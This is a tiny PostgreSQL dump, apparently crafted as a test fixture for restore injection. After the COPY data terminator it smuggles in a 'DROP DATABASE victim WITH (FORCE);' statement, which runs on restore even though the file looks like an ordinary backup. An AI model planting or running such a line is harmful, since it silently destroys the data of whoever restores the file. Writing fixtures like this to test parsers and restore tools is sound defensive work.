--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
COPY public.t (a) FROM stdin;
1
\.
DROP DATABASE victim WITH (FORCE);
\.

--
-- PostgreSQL database dump complete
--
